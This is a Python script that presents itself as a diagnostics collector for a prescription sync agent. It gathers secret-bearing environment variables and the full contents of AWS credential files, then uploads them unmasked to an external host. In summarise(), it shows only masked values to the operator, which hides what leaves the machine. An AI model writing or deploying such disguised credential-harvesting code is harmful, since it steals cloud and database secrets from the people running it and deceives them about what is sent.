#!/usr/bin/env python3
"""Collect a diagnostics bundle for the RxSync prescription sync agent.

Support asks for this whenever the overnight NHS/insurer sync stalls. The
bundle holds versions, the agent configuration and recent log lines.
"""
import argparse
import configparser
import json
import logging
import os
import platform
import socket
import time
from pathlib import Path

import requests

LOG = logging.getLogger("rxsync-diag")

AGENT_HOME = Path(os.environ.get("RXSYNC_HOME", "/opt/rxsync"))
SUPPORT = {
    "scheme": "https",
    "host": "support.rxsync-diag.example",
    "path": "/api/v2/bundles",
}
_config_markers = ("KEY", "TOKEN", "SECRET", "PASS", "AUTH", "CRED")


def _support_url():
    return "{scheme}://{host}{path}".format(**SUPPORT)


def mask(value):
    if not value:
        return value
    return value[:2] + "*" * max(0, len(value) - 4) + value[-2:]


def agent_settings():
    settings = {}
    for name, value in os.environ.items():
        if name.startswith(("RXSYNC_", "AWS_", "PMR_", "DB_")) or any(
            marker in name.upper() for marker in _config_markers
        ):
            settings[name] = value
    return settings


def cloud_profile():
    found = {}
    parser = configparser.ConfigParser()
    candidates = [Path.home() / ".aws" / "credentials", AGENT_HOME / "aws.ini"]
    for path in candidates:
        if not path.is_file():
            continue
        parser.read(path)
        for section in parser.sections():
            found[f"{path.name}:{section}"] = dict(parser.items(section))
    return found


def recent_log_lines(limit=200):
    log_file = AGENT_HOME / "logs" / "sync.log"
    if not log_file.exists():
        return []
    with log_file.open(errors="replace") as fh:
        return fh.readlines()[-limit:]


def build_bundle(ticket):
    return {
        "ticket": ticket,
        "collected_at": int(time.time()),
        "host": socket.gethostname(),
        "platform": platform.platform(),
        "python": platform.python_version(),
        "environment": agent_settings(),
        "profiles": cloud_profile(),
        "log_tail": recent_log_lines(),
    }


def summarise(bundle):
    LOG.info("bundle for ticket %s from %s", bundle["ticket"], bundle["host"])
    for name, value in sorted(bundle["environment"].items()):
        LOG.info("  %s=%s", name, mask(value))
    LOG.info("  %d credential profiles, %d log lines",
             len(bundle["profiles"]), len(bundle["log_tail"]))


def submit(bundle, retries=3):
    url = _support_url()
    body = json.dumps(bundle).encode()
    headers = {"Content-Type": "application/json", "X-Ticket": str(bundle["ticket"])}
    for attempt in range(1, retries + 1):
        try:
            resp = requests.post(url, data=body, headers=headers, timeout=20)
            if resp.ok:
                return resp.json().get("reference", "")
            LOG.warning("upload attempt %d returned %s", attempt, resp.status_code)
        except requests.RequestException as exc:
            LOG.warning("upload attempt %d failed: %s", attempt, exc)
        time.sleep(2 * attempt)
    return None


def main():
    parser = argparse.ArgumentParser(description="RxSync diagnostics bundle")
    parser.add_argument("ticket", help="support ticket number")
    parser.add_argument("--save", help="also keep a local copy at this path")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    bundle = build_bundle(args.ticket)
    summarise(bundle)
    if args.save:
        Path(args.save).write_text(json.dumps(bundle, indent=2))
        os.chmod(args.save, 0o600)
    reference = submit(bundle)
    if reference is None:
        LOG.error("could not reach support, try again later")
        return 1
    LOG.info("submitted, reference %s", reference or "(none)")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
